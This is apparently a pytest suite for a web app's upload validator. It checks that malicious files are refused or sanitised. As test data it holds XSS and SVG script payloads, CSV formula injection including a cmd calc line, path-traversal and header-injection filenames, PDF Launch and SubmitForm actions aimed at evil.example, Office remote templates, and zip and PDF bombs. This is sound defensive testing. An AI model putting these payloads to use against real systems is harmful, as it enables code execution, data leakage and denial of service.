"""What gets in and in which form, and what does not: each attack on an upload has a test with its name."""

import io
import zipfile
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from PIL import Image, ImageCms

from app import files
from app.errors import DomainError, TooLarge
from app.files.intake import Received, receive
from app.settings import settings
from tests.files import papers
from tests.files.papers import PDF, action, archive, document, opened, pdf_with, picture, saved

pytestmark = pytest.mark.usefixtures("folder")
SCRIPT = b"<html><script>alert(document.cookie)</script></html>"


def _taken(content: bytes, name: str = "surat.pdf") -> Received:
    return receive(io.BytesIO(content), name)


def _bytes_of(received: Received) -> bytes:
    content = files.path_of(received.sha256).read_bytes()
    assert len(content) == received.size
    return content


def _refusal(content: bytes, name: str = "surat.pdf") -> str:
    with pytest.raises(DomainError) as refusal:
        _taken(content, name)
    found = [error.code for error in refusal.value.errors] or [refusal.value.code]
    assert [entry for entry in files.current().entries() if entry.size == len(content)] == [], "it was stored"
    return found[0]


# ── What gets in ──


def test_a_pdf_is_stored_byte_for_byte() -> None:
    received = _taken(PDF)
    assert (received.media_type, received.filename) == ("application/pdf", "surat.pdf")
    assert _bytes_of(received) == PDF


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
def test_the_same_picture_gives_the_same_bytes_again(kind: str) -> None:
    first, again = _taken(picture(kind), "foto"), _taken(picture(kind), "foto")
    assert first == again
    assert first.media_type == f"image/{kind.lower()}"
    assert opened(_bytes_of(first)).size == (60, 40)


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
def test_a_picture_loses_what_the_camera_added(kind: str) -> None:
    exif = Image.Exif()
    exif[0x010F] = "MERK-KAMERA"
    exif.get_ifd(0x8825)[1] = "S"
    exif.get_ifd(0x8825)[2] = (7.0, 58.0, 46.0)
    sent = picture(kind, exif=exif)
    assert b"MERK-KAMERA" in sent
    stored = _bytes_of(_taken(sent, "foto"))
    assert b"MERK-KAMERA" not in stored
    assert dict(opened(stored).getexif()) == {}
    assert {"exif", "icc_profile", "comment", "xmp", "XML:com.adobe.xmp"} & set(opened(stored).info) == set()


def test_a_picture_taken_sideways_is_stored_upright() -> None:
    exif = Image.Exif()
    exif[0x0112] = 6  # turned by a quarter: its left side is up
    upright = opened(_bytes_of(_taken(picture(exif=exif), "foto")))
    assert upright.size == (40, 60)
    red, _green, blue = upright.getpixel((20, 5))
    assert (red > 150, blue < 100) == (True, True)


def test_colours_stay_what_the_profile_means() -> None:
    lab = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    stored = opened(_bytes_of(_taken(picture("PNG", icc_profile=lab), "foto")))
    assert "icc_profile" not in stored.info
    assert stored.getpixel((5, 5)) == (220, 20, 20)
    assert opened(_bytes_of(_taken(picture("PNG", icc_profile=b"bukan profil"), "foto"))).size == (60, 40)


def test_a_phone_that_adds_a_second_picture_is_no_animation() -> None:
    two = saved(Image.new("RGB", (60, 40)), "MPO", save_all=True, append_images=[Image.new("RGB", (30, 20))])
    assert _taken(two, "foto.jpg").media_type == "image/jpeg"


def test_a_very_large_picture_is_made_smaller() -> None:
    assert opened(_bytes_of(_taken(picture(size=(8000, 1000)), "foto.jpg"))).size == (5000, 625)


@pytest.mark.parametrize(
    ("content", "ending"),
    [(document(), ".docx"), (archive({"mimetype": b"application/vnd.oasis.opendocument.text",
                                      "META-INF/manifest.xml": b"<m/>", "content.xml": b"<x/>"}), ".odt")],
)  # fmt: skip
def test_an_office_document_is_stored_byte_for_byte(content: bytes, ending: str) -> None:
    received = _taken(content, "laporan")
    assert received.filename == "laporan" + ending
    assert _bytes_of(received) == content


def test_links_and_a_local_template_do_not_make_a_document_dangerous() -> None:
    links = (b'<Relationships><Relationship Type="x/hyperlink" Target="https://a.example" TargetMode="External"/>'
             b'<Relationship Type="http://x/attachedTemplate" Target="file:///C:\\Users\\Sari\\Normal.dotm" '
             b'TargetMode="External"/></Relationships>')  # fmt: skip
    assert _taken(document(**{"word/_rels/document.xml.rels": links}))


# ── Sizes and bombs ──


def test_too_large_is_known_before_it_is_read_whole(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(settings(), "max_document_bytes", 1_048_576)
    source = io.BytesIO(bytes(20 * 1_048_576))
    with pytest.raises(TooLarge):
        receive(source, "besar.pdf")
    assert source.tell() <= 1_048_576 + files.CHUNK


def test_an_empty_file_is_refused() -> None:
    assert _refusal(b"") == "empty_file"


def test_image_bomb_is_refused_by_its_head() -> None:
    bomb = papers.png_of(60_000, 60_000)
    assert len(bomb) < 1_000_000
    assert _refusal(bomb, "bom.png") == "image_too_large"


def test_image_bomb_in_a_webp_is_refused() -> None:
    assert _refusal(saved(Image.new("RGB", (16_000, 4_000)), "WEBP", quality=1, method=0)) == "image_too_large"


@pytest.mark.parametrize("kind", ["PNG", "WEBP"])
def test_an_animation_is_refused(kind: str) -> None:
    frames = [Image.new("RGB", (20, 20), (shade, 0, 0)) for shade in (0, 250)]
    assert _refusal(saved(frames[0], kind, save_all=True, append_images=frames[1:])) == "image_animated"


def test_zip_bomb_is_refused() -> None:
    assert _refusal(document(word__media__a=bytes(60_000_000))) == "file_bomb"


def test_zip_bomb_that_lies_about_its_size_is_refused() -> None:
    honest = document(word__media__a=bytes(60_000_000))
    lying = honest.replace((60_000_000).to_bytes(4, "little"), (10).to_bytes(4, "little"))
    assert lying != honest
    assert _refusal(lying) in {"file_bomb", "file_damaged"}


def test_zip_bomb_of_parts_that_overlap_is_refused() -> None:
    kernel = zipfile.ZipFile(io.BytesIO(document(a=bytes(1_000_000))))
    packed = bytearray(kernel.fp.getvalue())  # type: ignore[union-attr]
    start = kernel.start_dir
    entry = packed[packed.index(b"PK\x01\x02", start) :]
    directory, end = entry[: entry.index(b"PK\x05\x06")], entry[entry.index(b"PK\x05\x06") :]
    many = directory * 900
    end[8:10] = end[10:12] = (900 * 3).to_bytes(2, "little")
    end[12:16] = len(many).to_bytes(4, "little")
    assert _refusal(bytes(packed[:start] + many + end)) in {"file_bomb", "file_damaged"}


def test_pdf_of_endless_objects_is_refused() -> None:
    def fill(pdf: Any) -> None:
        pdf.Root.Many = pikepdf.Array([pdf.make_indirect(pikepdf.Dictionary()) for _ in range(200_001)])

    endless = pdf_with(fill, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert len(endless) < 2_000_000
    assert _refusal(endless) == "file_too_complex"


def test_pdf_stream_bomb_costs_no_memory_of_the_server() -> None:
    def hide(pdf: Any) -> None:
        for n in range(1, 9):
            pdf.pages[0][f"/X{n}"] = pdf.make_stream(bytes(100_000_000))

    bomb = pdf_with(hide, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert len(bomb) < 2_000_000
    assert _taken(bomb).size == len(bomb)  # its streams are not unpacked to be looked at


def test_who_is_killed_by_a_limit_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("app.files.intake.LONGEST_INSPECTION", 0.001)
    assert _refusal(PDF) == "file_too_complex"


# ── Polyglots and confusion of types ──


@pytest.mark.parametrize("name", ["foto.svg", "foto.png", "surat.pdf"])
def test_svg_script_is_refused_under_any_name(name: str) -> None:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.domain)</script></svg>'
    for content in (svg, b'<?xml version="1.0"?>\n' + svg, b"\xef\xbb\xbf" + svg, b"\n\n" + svg):
        assert _refusal(content, name) == "unsupported-type"


@pytest.mark.parametrize("name", ["data.csv", "data.pdf", "data.xlsx", "page.html.pdf"])
def test_csv_and_html_in_disguise_are_refused(name: str) -> None:
    for content in (
        b'nama,nilai\n=HYPERLINK("https://evil.example"),1\n',
        SCRIPT,
        b"GIF89a=1;alert(1)//",
        b"\x00" + SCRIPT,
    ):
        assert _refusal(content, name) == "unsupported-type"


@pytest.mark.parametrize(
    "name", ["surat.pdf.exe", "surat.exe.pdf", "surat.pdf.html", "surat.php5.pdf", "surat.pdf.js.svg"]
)
def test_double_extension_leaves_one_ending_of_the_true_type(name: str) -> None:
    stored = _taken(PDF, name).filename
    assert stored.endswith(".pdf")
    assert stored.count(".") == 1


def test_null_byte_and_rtl_override_in_a_name_hide_no_ending() -> None:
    for mark in ("\x00", "\u202e", "\u2066", "\u200f", "\ufeff", "\u061c", "\r\n", "\x7f"):
        stored = _taken(PDF, f"surat{mark}fdp.exe").filename
        assert stored == "surat_fdp.pdf", repr(mark)


def test_polyglot_jpeg_and_zip_keeps_the_picture_alone() -> None:
    both = picture() + archive({"evil.html": SCRIPT})
    assert zipfile.is_zipfile(io.BytesIO(both))
    stored = _bytes_of(_taken(both, "foto.jpg"))
    assert not zipfile.is_zipfile(io.BytesIO(stored))
    assert SCRIPT not in stored


def test_polyglot_gifar_is_refused() -> None:
    gif = saved(Image.new("P", (4, 4)), "GIF")
    assert _refusal(gif + archive({"Evil.class": b"\xca\xfe\xba\xbe"}), "foto.gif") == "unsupported-type"


def test_polyglot_png_and_html_keeps_the_picture_alone() -> None:
    from PIL.PngImagePlugin import PngInfo

    note = PngInfo()
    note.add_text("Comment", SCRIPT.decode())
    stored = _bytes_of(_taken(picture("PNG", pnginfo=note) + SCRIPT, "foto.png.html"))
    assert b"script" not in stored


def test_polyglot_pdf_and_zip_is_refused() -> None:
    assert _refusal(PDF + archive({"evil.exe": b"MZ"})) == "file_of_two_kinds"
    hidden = PDF.replace(b"trailer", b"%" + archive({"evil.exe": b"MZ"}, method=zipfile.ZIP_STORED) + b"\ntrailer")
    assert _refusal(hidden) == "file_of_two_kinds"


def test_polyglot_pdf_and_html_is_refused() -> None:
    assert _refusal(PDF.replace(b"%PDF-1.4\n", b"%PDF-1.4 " + SCRIPT + b"\n")) == "file_of_two_kinds"
    assert _refusal(PDF + SCRIPT) == "file_of_two_kinds"


def test_polyglot_javascript_and_pdf_is_refused() -> None:
    assert _refusal(b"/*\n" + PDF + b"*/alert(1)") == "unsupported-type"


@pytest.mark.parametrize(
    ("name", "content"),
    [("surat.pdf", b"MZ\x90\x00program"), ("surat.pdf", SCRIPT), ("data.csv", b"a,b\n=cmd|' /C calc'!A0,2\n"),
     ("foto.jpg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"),
     ("foto.svg", b"<?xml version='1.0'?><svg onload='alert(1)'/>"), ("surat.docx", archive({"a.txt": b"x"})),
     ("surat.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), ("surat.pdf", b"\x00" * 100), ("a.pdf", b"%PDF"),
     ("berkas.rar", b"Rar!\x1a\x07"), ("foto.heic", b"\x00\x00\x00\x18ftypheic")],
)  # fmt: skip
def test_type_confusion_is_decided_by_the_bytes(name: str, content: bytes) -> None:
    assert _refusal(content, name) == "unsupported-type"


@pytest.mark.parametrize("content", [b"%PDF-1.7\n" + b"x" * 50, b"\xff\xd8\xff\xe0 no picture", picture()[:200],
                                     b"PK\x03\x04" + b"x" * 99, picture("PNG")[:-30], PDF[:300]])  # fmt: skip
def test_what_only_begins_like_it_is_damaged(content: bytes) -> None:
    assert _refusal(content) == "file_damaged"


# ── Names ──


@pytest.mark.parametrize(
    ("sent", "stored"),
    [("../../etc/passwd", "passwd.pdf"), ("..\\..\\windows\\system32\\a.pdf", "a.pdf"), ("/etc/cron.d/x.pdf", "x.pdf"),
     ("surat.pdf.exe", "surat_pdf.pdf"), ("surat.php.pdf", "surat_php.pdf"), ("foto.html.jpg", "foto_html.pdf"),
     ("surat\x00.exe.pdf", "surat__exe.pdf"), ("surat\u202efdp.exe", "surat_fdp.pdf"), ("", "berkas.pdf"),
     ("...", "berkas.pdf"), (".htaccess", "htaccess.pdf"), ("CON.pdf", "_CON.pdf"),
     ("a\r\nX-Evil: 1.pdf", "a_X-Evil_ 1.pdf"),
     ('a";filename=evil.exe;".pdf', "a_filename_evil_exe_.pdf"),
     ("<img src=x onerror=alert(1)>.pdf", "_img src_x onerror_alert(1)_.pdf"),
     ("Surat Pernyataan No. 12.3.2023.pdf", "Surat Pernyataan No. 12.3.2023.pdf"),
     ("a" * 400 + ".pdf", "a" * 120 + ".pdf"),
     ("laporan ❤ Café.PDF", "laporan _ Café.pdf")],
)  # fmt: skip
def test_names_cannot_trip_a_path_a_header_or_a_reader(sent: str, stored: str) -> None:
    assert _taken(PDF, sent).filename == stored


# ── PDF ──


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        (action("JavaScript", JS=pikepdf.String("app.alert(1)")), "pdf_script"),
        (action("Launch", F=pikepdf.String("cmd.exe")), "pdf_action"),
        (action("SubmitForm", F=pikepdf.String("https://evil.example")), "pdf_action"),
        (action("GoToR", F=pikepdf.String("\\\\evil.example\\share")), "pdf_action"),
        (action("Rendition"), "pdf_media"),
    ],
)
def test_pdf_that_does_something_when_opened_is_refused(change: Any, reason: str) -> None:
    assert _refusal(pdf_with(change)) == reason


def test_pdf_with_script_in_packed_objects_or_odd_letters_is_refused() -> None:
    def deep(pdf: Any) -> None:
        script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("x()"))
        pdf.pages[0].AA = pikepdf.Dictionary(O=script)

    packed = pdf_with(deep, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"JavaScript" not in packed
    assert _refusal(packed) == "pdf_script"
    odd = PDF.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /J#61v#61Script /#4AS (x) >>")
    assert _refusal(odd) == "pdf_script"


def test_pdf_with_an_embedded_file_is_refused() -> None:
    def attach(pdf: Any) -> None:
        pdf.attachments["evil.exe"] = b"MZ"

    assert _refusal(pdf_with(attach)) == "pdf_attachment"


def test_pdf_with_an_xfa_form_is_refused() -> None:
    def form(pdf: Any) -> None:
        pdf.Root.AcroForm = pikepdf.Dictionary(XFA=pdf.make_stream(b"<xdp/>"), Fields=pikepdf.Array())

    assert _refusal(pdf_with(form)) == "pdf_form"


@pytest.mark.parametrize("password", ["rahasia", ""])
def test_pdf_that_is_locked_is_refused(password: str) -> None:
    locked = pdf_with(lambda pdf: None, encryption=pikepdf.Encryption(owner="pemilik", user=password))
    assert _refusal(locked) == "pdf_locked"


def test_pdf_with_links_pages_and_plain_forms_is_taken() -> None:
    def usual(pdf: Any) -> None:
        go = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit]))
        pdf.Root.OpenAction = go
        web = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://menpan.go.id"))
        link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=web, Rect=[0, 0, 9, 9])
        pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([link]))
        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array())

    assert _taken(pdf_with(usual)).media_type == "application/pdf"


# ── Office documents ──


@pytest.mark.parametrize(
    ("parts", "reason"),
    [
        ({"word/vbaProject.bin": b"x"}, "office_macro"),
        ({"word/activeX/activeX1.xml": b"x"}, "office_macro"),
        ({"word/embeddings/oleObject1.bin": b"MZ"}, "office_embedded"),
        ({"word/_rels/settings.xml.rels": b'<Relationship Type="t/attachedTemplate" Target="http://evil.example/a.dotm"'
                                          b' TargetMode="External"/>'}, "office_external"),
        ({"word/_rels/document.xml.rels": b"<Relationship Target='\\\\evil\\a.png' Type='t/image' "
                                          b"TargetMode='External'/>"}, "office_external"),
        ({"../../evil.sh": b"x"}, "file_damaged"),
    ],
)  # fmt: skip
def test_office_document_that_runs_carries_or_fetches_is_refused(parts: dict[str, bytes], reason: str) -> None:
    assert _refusal(document(**parts)) == reason


def test_office_document_with_macros_under_a_plain_name_is_refused() -> None:
    kind = "application/vnd.ms-word.document.macroEnabled.main+xml"
    contents = f'<Types><Override ContentType="{kind}"/></Types>'.encode()
    macro = archive({"[Content_Types].xml": contents, "word/document.xml": b"<x/>"})
    assert _refusal(macro, "surat.docx") == "office_macro"


def test_inspection_knows_no_settings_and_no_secrets(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    spy = tmp_path / "spy"
    spy.write_text('#!/bin/sh\nenv > "$(dirname "$0")/seen"\necho \'{"refused": "unsupported"}\'\n')
    spy.chmod(0o755)
    monkeypatch.setenv("JIPP_DATABASE_URL", "postgresql://jipp:rahasia@db/jipp")
    monkeypatch.setattr("app.files.intake.sys.executable", str(spy))
    assert _refusal(PDF) == "unsupported-type"
    assert "rahasia" not in (tmp_path / "seen").read_text()
